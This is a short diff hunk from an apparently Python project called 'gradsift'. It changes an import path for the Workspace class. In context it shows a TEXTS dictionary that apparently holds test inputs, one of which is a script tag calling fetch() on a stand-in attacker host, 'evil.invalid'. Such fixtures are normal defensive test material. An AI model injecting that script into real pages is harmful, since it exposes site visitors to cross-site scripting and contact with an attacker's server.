@@ -12,7 +12,7 @@ from gradsift.data.targets import read_targets
 from gradsift.runtime.progress import Progress
 from gradsift.scoring.score_targets import score_targets
 from gradsift.text.index import ensure_index
-from gradsift.workspace import Workspace
+from gradsift.workspace.workspace import Workspace
 
 TEXTS = {
     "script": "<script>fetch('http://evil.invalid/x')</script>",
